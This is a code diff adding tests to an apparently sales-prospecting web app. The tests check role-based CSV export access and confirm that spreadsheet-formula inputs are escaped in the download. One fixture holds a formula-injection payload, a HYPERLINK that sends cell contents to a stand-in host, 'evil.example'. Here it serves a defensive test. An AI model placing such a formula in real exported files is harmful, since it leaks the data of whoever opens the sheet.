@@ -104,3 +104,39 @@ def test_uploads_have_their_own_larger_cap(app_on: object, tmp_path: Path) -> No
         assert response.status_code == 413 and "4,096 bytes" in response.json()["error"]["message"]
         response = client.post("/api/v1/prospects", json={"name": "x" * 2000}, headers=auth)
         assert response.status_code == 413  # the general cap still holds elsewhere
+
+
+def test_a_formula_a_rep_types_downloads_as_text_for_the_manager(db_client: TestClient) -> None:
+    import csv
+    import io
+
+    client = db_client
+    set_up(client)
+    manager_token = new_token(client)
+    add_rep(client, "Ray Rep", "ray@example.com")
+    client.post("/logout", data={"csrf_token": csrf(client, "/check")})
+    assert log_in(client, "ray@example.com") == 303
+    formula = '=HYPERLINK("http://evil.example/?d="&A1,"Report")'
+    form = {"name": formula, "company": "@SUM(1)", "csrf_token": csrf(client, "/prospects/new")}
+    added = client.post("/prospects", data=form, follow_redirects=False)
+    assert added.status_code == 303, added.text
+    script = "+1+1 Jane, three ways to fill your chairs; call 704-333-1112."
+    data = {"strategy": "value_tip", "script": script, "csrf_token": csrf(client, "/check")}
+    client.post(f"{added.headers['location']}/voicemails", data=data)
+    assert client.get("/export.csv").status_code == 403  # a rep: managers export
+    rep_token = new_token(client, "ray")
+    assert client.get("/api/v1/export.csv", headers=bearer(rep_token)).status_code == 403
+    download = client.get("/api/v1/export.csv", headers=bearer(manager_token))
+    assert download.status_code == 200
+    assert download.headers["content-type"].startswith("text/csv")
+    assert "attachment" in download.headers["content-disposition"]
+    (row,) = csv.DictReader(io.StringIO(download.text))
+    assert row["prospect"] == "'" + formula and row["company"] == "'@SUM(1)"
+    assert row["script"] == "'" + script and row["rep"] == "Ray Rep"
+
+
+def test_the_manager_downloads_the_export_from_the_import_page(client: TestClient) -> None:
+    set_up(client)
+    assert 'href="/export.csv"' in client.get("/import").text
+    download = client.get("/export.csv")
+    assert download.status_code == 200 and download.text.startswith('"kind","id","at"')
